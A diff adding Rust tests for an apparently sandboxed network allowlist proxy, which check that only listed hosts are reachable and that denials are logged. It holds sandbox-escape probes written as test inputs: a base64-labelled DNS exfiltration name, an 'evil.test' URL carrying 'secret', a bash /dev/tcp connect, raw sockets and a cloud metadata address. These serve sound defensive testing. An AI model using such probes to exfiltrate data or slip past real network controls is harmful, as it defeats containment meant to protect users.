@@ -1,0 +1,238 @@
+//! E01 to E24 as a program behind the wall meets them: what is listed can be reached, and nothing else by any way. What the
+//! proxy makes of odd names, headers and addresses is tested where the proxy is.
+
+use std::io::{BufRead, BufReader, Write};
+use std::net::{TcpListener, TcpStream};
+use std::sync::{Arc, Mutex};
+
+use ringfence_testkit::canary::Listener;
+
+use crate::probe::{Wall, python, run, sh, walled_with};
+use crate::stage::Stage;
+
+/// A server on the host's loopback that answers every request, and remembers its first line.
+struct Origin {
+    port: u16,
+    asked: Arc<Mutex<Vec<String>>>,
+}
+
+impl Origin {
+    fn start() -> Self {
+        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+        let port = listener.local_addr().unwrap().port();
+        let asked: Arc<Mutex<Vec<String>>> = Arc::default();
+        let remembered = Arc::clone(&asked);
+        std::thread::spawn(move || {
+            for stream in listener.incoming().flatten() {
+                let remembered = Arc::clone(&remembered);
+                std::thread::spawn(move || answer(&stream, &remembered));
+            }
+        });
+        Self { port, asked }
+    }
+
+    fn asked(&self) -> Vec<String> {
+        self.asked.lock().unwrap().clone()
+    }
+}
+
+fn answer(stream: &TcpStream, asked: &Mutex<Vec<String>>) {
+    let mut reader = BufReader::new(stream);
+    loop {
+        let mut first = String::new();
+        let mut line = String::new();
+        if reader.read_line(&mut first).is_err() || first.is_empty() {
+            return;
+        }
+        while reader.read_line(&mut line).is_ok_and(|read| read > 2) {
+            line.clear();
+        }
+        asked.lock().unwrap().push(first.trim().to_owned());
+        let answer = b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\n\r\nhello\n";
+        if { stream }.write_all(answer).is_err() {
+            return;
+        }
+    }
+}
+
+/// A stage whose policy allows exactly `net`.
+fn stage(net: &str) -> Option<Stage> {
+    walled_with(&format!("net: {{ mode: allowlist, {net} }}\n"))
+}
+
+/// Asks for each URL as a program would that heeds the variables, and says what came.
+const FETCH: &str = "
+import sys, urllib.request, urllib.error
+for url in sys.argv[1:]:
+    try:
+        with urllib.request.urlopen(url, timeout=10) as answer: print(answer.status, answer.read().decode().strip())
+    except urllib.error.HTTPError as error: print(error.code, error.read().decode().strip())
+    except OSError as error: print('none')
+";
+
+#[test]
+fn e14_a_listed_port_of_the_host_is_reached_and_no_other() {
+    let (origin, other) = (Origin::start(), Listener::start().unwrap());
+    let Some(stage) = stage(&format!("localhost: [{}]", origin.port)) else { return };
+    let listed = format!("http://localhost:{}/a", origin.port);
+    let unlisted = format!("http://localhost:{}/b", other.port());
+    let Some(ended) = python(&stage, Wall::Native, FETCH, &[&listed, &unlisted]) else { return };
+    let text = ended.text();
+    assert!(text.starts_with("200 hello\n403 Ringfence denied"), "{text}");
+    assert!(text.contains(&format!("localhost:{}", origin.port)), "it says what is allowed instead: {text}");
+    assert_eq!((origin.asked(), other.hits()), (vec!["GET /a HTTP/1.1".to_owned()], 0));
+    python(&stage, Wall::Bare, FETCH, &[&unlisted]);
+    assert!(other.hits() > 0, "the probe proves nothing");
+}
+
+#[test]
+fn e01_an_empty_allowlist_denies_everything() {
+    let origin = Origin::start();
+    let Some(stage) = stage("allow: []") else { return };
+    let urls = [format!("http://localhost:{}/", origin.port), format!("http://127.0.0.1:{}/", origin.port)];
+    let Some(ended) = python(&stage, Wall::Native, FETCH, &[&urls[0], &urls[1], "http://a.test/"]) else { return };
+    assert_eq!(ended.text().lines().filter(|line| line.starts_with("403 Ringfence denied")).count(), 3, "{ended:?}");
+    assert!(origin.asked().is_empty());
+    python(&stage, Wall::Bare, FETCH, &[&urls[0]]);
+    assert_eq!(origin.asked().len(), 1, "the probe proves nothing");
+}
+
+#[test]
+fn e12_there_is_no_route_past_the_proxy() {
+    let origin = Origin::start();
+    let port = origin.port.to_string();
+    let Some(stage) = stage(&format!("localhost: [{port}], allow: [a.test]")) else { return };
+    let code = "
+import socket, sys
+port = int(sys.argv[1])
+for family, kind, address in [
+    (socket.AF_INET, socket.SOCK_STREAM, ('127.0.0.1', port)), (socket.AF_INET, socket.SOCK_STREAM, ('192.0.2.1', 80)),
+    (socket.AF_INET, socket.SOCK_DGRAM, ('192.0.2.1', 443)), (socket.AF_INET6, socket.SOCK_STREAM, ('2001:db8::1', 80)),
+    (socket.AF_INET, socket.SOCK_STREAM, ('169.254.169.254', 80)), (socket.AF_INET, socket.SOCK_RAW, ('192.0.2.1', 0)),
+    (socket.AF_PACKET, socket.SOCK_RAW, ('lo', 0))]:
+    try:
+        with socket.socket(family, kind) as s: s.settimeout(2); s.connect(address); print('reached', address)
+    except OSError: pass
+print('done')
+";
+    let unset = format!("unset {}; exec python3 -c \"$1\" {port}", VARIABLES.join(" "));
+    let ended = sh(&stage, Wall::Native, &unset, &[code]);
+    assert_eq!(ended.text(), "done\n", "{ended:?}");
+    let bash = sh(&stage, Wall::Native, "bash -c \"exec 3<>/dev/tcp/127.0.0.1/$1\" 2> /dev/null; echo $?", &[&port]);
+    assert_eq!(bash.text(), "1\n");
+    assert!(origin.asked().is_empty());
+    // The way that there is works for the same program.
+    let url = format!("http://127.0.0.1:{port}/");
+    let Some(twin) = python(&stage, Wall::Native, FETCH, &[&url]) else { return };
+    assert_eq!(twin.text(), "200 hello\n", "the probe proves nothing: {twin:?}");
+}
+
+const VARIABLES: [&str; 8] =
+    ["HTTP_PROXY", "http_proxy", "HTTPS_PROXY", "https_proxy", "ALL_PROXY", "all_proxy", "NO_PROXY", "no_proxy"];
+
+#[test]
+fn e11_no_name_is_looked_up_inside() {
+    let Some(stage) = stage("allow: [a.test]") else { return };
+    let code = "
+import socket, struct
+for name in ('a.test', 'c2VjcmV0.evil.test', 'localhost'):
+    try: print(name, socket.getaddrinfo(name, 80)[0][4][0])
+    except OSError: print(name, 'none')
+with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+    try: s.sendto(b'\\0' * 32, ('192.0.2.53', 53)); print('sent')
+    except OSError: print('no way')
+";
+    let Some(ended) = python(&stage, Wall::Native, code, &[]) else { return };
+    let text = ended.text();
+    assert!(text.contains("c2VjcmV0.evil.test none\n") && text.ends_with("no way\n"), "{text}");
+    assert!(text.contains("localhost 127.0.0.1\n") || text.contains("localhost ::1\n"), "{text}");
+}
+
+/// Speaks to the proxy by hand: every kind of request for the same forbidden place, then for the allowed one.
+const BY_HAND: &str = "
+import socket, sys
+def ask(*pieces):
+    with socket.create_connection(('127.0.0.1', 3128), 5) as s:
+        answer = b''
+        for piece in pieces:
+            s.sendall(piece); answer = s.recv(65536)
+        return answer
+def http(text): return ask(text.encode())[9:12].decode()
+def socks(host, port): return ask(b'\\x05\\x01\\x00', b'\\x05\\x01\\x00\\x03' + bytes([len(host)]) + host + port.to_bytes(2, 'big'))[1]
+for port in (int(sys.argv[1]), int(sys.argv[2])):
+    print(http(f'GET http://localhost:{port}/ HTTP/1.1\\r\\nHost: localhost:{port}\\r\\nConnection: close\\r\\n\\r\\n'),
+          http(f'CONNECT localhost:{port} HTTP/1.1\\r\\nHost: localhost:{port}\\r\\n\\r\\n'), socks(b'localhost', port))
+";
+
+#[test]
+fn e24_plain_requests_tunnels_and_socks_are_judged_alike() {
+    let (origin, other) = (Origin::start(), Listener::start().unwrap());
+    let Some(stage) = stage(&format!("localhost: [{}]", origin.port)) else { return };
+    let ports = [other.port().to_string(), origin.port.to_string()];
+    let Some(ended) = python(&stage, Wall::Native, BY_HAND, &[&ports[0], &ports[1]]) else { return };
+    assert_eq!(ended.text(), "403 403 2\n200 200 0\n", "{ended:?}");
+    assert_eq!(other.hits(), 0);
+}
+
+#[test]
+fn what_was_denied_and_what_was_reached_is_in_the_outcome_and_in_the_ledger() {
+    let origin = Origin::start();
+    let Some(stage) = stage(&format!("localhost: [{}], allow: [a.test]", origin.port)) else { return };
+    let fetch = format!("{FETCH}\nsys.exit(3)");
+    let url = format!("http://localhost:{}/here", origin.port);
+    let argv = ["python3", "-c", &fetch, &url, &url, "http://evil.test/x?secret"];
+    let outcome = run(&stage, Wall::Native, &["--json"], &argv).run().json();
+    let network = outcome["network"].as_array().cloned().unwrap_or_default();
+    let found: Vec<_> =
+        network.iter().map(|one| (&one["host"], &one["allowed"], &one["count"], &one["path"])).collect();
+    let shown = format!("{found:?}");
+    assert_eq!(network.len(), 2, "{outcome:#}");
+    assert!(network.iter().any(|one| one["allowed"] == true && one["count"] == 2 && one["status"] == 200), "{shown}");
+    let denied = network.iter().find(|one| one["host"] == "evil.test").unwrap();
+    assert_eq!((&denied["reason"], &denied["path"]), (&"net.not-listed".into(), &"/x".into()), "the query is not kept");
+    assert_eq!(outcome["violations"][0]["rule"], "net.allowlist");
+    assert!(outcome["advice"].as_str().unwrap().contains("a.test"), "{}", outcome["advice"]);
+    let enforced = outcome["enforced"].as_array().unwrap();
+    let evidence = enforced.iter().find(|one| one["guarantee"] == "net.allowlist").unwrap();
+    assert!(evidence["evidence"].to_string().contains("only lo, no route, and our proxy at"), "{evidence}");
+    let ledger = std::fs::read_to_string(stage.ledger()).unwrap();
+    assert!(ledger.contains("\"host\":\"evil.test\""), "{ledger}");
+}
+
+#[test]
+fn a_session_has_one_way_out_and_each_run_is_told_what_it_asked_for() {
+    let origin = Origin::start();
+    let Some(stage) = stage(&format!("localhost: [{}]", origin.port)) else { return };
+    let name = "net";
+    stage.ringfence(["session", "start", name]).run().expect(0, &[]);
+    let url = format!("http://localhost:{}/one", origin.port);
+    let fetch = |url: &str| {
+        let argv = ["session", "exec", "--json", name, "--", "python3", "-c", FETCH, url];
+        stage.ringfence(argv).run().json()
+    };
+    let (one, two) = (fetch(&url), fetch("http://evil.test/"));
+    stage.ringfence(["session", "stop", name]).run();
+    assert_eq!((&one["stdout"], one["network"].as_array().unwrap().len()), (&"200 hello\n".into(), 1), "{one:#}");
+    assert_eq!(two["network"][0]["allowed"], false, "{two:#}");
+    assert_eq!(two["network"].as_array().unwrap().len(), 1, "{two:#}");
+}
+
+#[test]
+fn e19_many_half_open_connections_end_with_the_run_and_hold_up_nobody() {
+    let origin = Origin::start();
+    let Some(stage) = stage(&format!("localhost: [{}]", origin.port)) else { return };
+    let code = "
+import socket, sys, urllib.request
+held = []
+for _ in range(300):
+    s = socket.socket(); s.settimeout(1)
+    try: s.connect(('127.0.0.1', 3128)); s.sendall(b'GET http://loc'); held.append(s)
+    except OSError: break
+print(len(held) >= 100)
+for s in held: s.close()
+with urllib.request.urlopen(sys.argv[1], timeout=20) as answer: print(answer.read().decode().strip())
+";
+    let url = format!("http://localhost:{}/", origin.port);
+    let Some(ended) = python(&stage, Wall::Native, code, &[&url]) else { return };
+    assert_eq!(ended.text(), "True\nhello\n", "{ended:?}");
+}
